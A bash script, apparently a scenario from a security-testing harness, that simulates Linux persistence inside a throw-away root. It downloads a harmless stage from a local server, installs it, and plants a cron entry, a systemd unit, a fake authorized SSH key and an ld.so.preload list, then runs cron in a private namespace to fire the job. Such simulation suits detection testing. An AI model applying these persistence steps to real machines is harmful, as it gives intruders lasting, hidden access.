#!/usr/bin/env bash
# Persistence in a throw-away root: a cron table, a systemd unit, an authorized key, a preload list. The cron
# table is real: Debian's own cron runs in a private mount namespace where the throw-away folders stand over
# /etc/cron.d, /etc/crontab, /var/spool/cron and /run, and starts the stage at the next full minute.
# Needs: bash, cron, util-linux (unshare), coreutils, perl (perl-base), curl. ROOT, for the namespace (without
# root the cron part is left out and said so). Runs in at most 75 s.
. "$(dirname "${BASH_SOURCE[0]}")/lib/common.sh"
need perl curl install tee

mkdir -p "$root"/{far,bin,etc/systemd/system,etc/cron.d,spool/crontabs,run,home/mika/.ssh}
printf '#!/bin/sh\nprintf "stage\\t%%s\\tstage run by cron\\n" $$ >>%s\nid >%s\nsleep 0.2\n' "$STEPS" "$root/ran" >"$root/far/stage"
far_side

step download "a stage is downloaded" curl -s -m 5 -o "$shm/stage" "http://127.0.0.1:$web/stage"
step install "and put where it will stay" install -m 755 "$shm/stage" "$root/bin/updater"
say "an entry is added to a cron table"
printf '* * * * * %s\n' "$root/bin/updater" | tee "$root/spool/crontabs/root" >/dev/null &
note cron "$!" "cron table written"
wait "$!"
chmod 600 "$root/spool/crontabs/root"
say "a systemd unit is written"
printf '[Unit]\nDescription=Updater\n[Service]\nExecStart=%s\n[Install]\nWantedBy=multi-user.target\n' "$root/bin/updater" | tee "$root/etc/systemd/system/updater.service" >/dev/null &
note unit "$!" "systemd unit written"
wait "$!"
say "a key is added to authorized_keys"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlantedByAStoryNotAKey story' | tee -a "$root/home/mika/.ssh/authorized_keys" >/dev/null &
note key "$!" "authorized key added"
wait "$!"
say "a preload list is written"
echo "$root/lib/libx.so" | tee "$root/etc/ld.so.preload" >/dev/null &
note preload "$!" "preload list written"
wait "$!"

if [ "$(id -u)" = 0 ] && command -v cron >/dev/null && command -v unshare >/dev/null; then
	say "cron starts in its own mount namespace and waits for the full minute"
	# 60 s reach the next full minute; the job itself needs less than one
	unshare --mount --propagation private sh -c '
		mount --bind "$1/etc/cron.d" /etc/cron.d && mount --bind /dev/null /etc/crontab &&
		mount --bind "$1/spool" /var/spool/cron && mount --bind "$1/run" /run && exec cron -f' sh "$root" &
	daemon=$!
	helpers+=("$daemon")
	for ((n = 0; n < 680; n++)); do
		[ -s "$root/ran" ] && break
		kill -0 "$daemon" 2>/dev/null || { echo "cron did not start" >&2; exit 1; }
		pause 0.1
	done
	[ -s "$root/ran" ] || { echo "cron did not run the stage within 68 s" >&2; exit 1; }
	pause 0.4
	say "cron ran the stage"
else
	missing=()
	[ "$(id -u)" = 0 ] || missing+=("root")
	command -v cron >/dev/null || missing+=("the program cron (apt-get install cron)")
	command -v unshare >/dev/null || missing+=("the program unshare (apt-get install util-linux)")
	printf -v list '%s, ' "${missing[@]}"
	say "the stage is not run by cron in this run; missing: ${list%, }"
fi
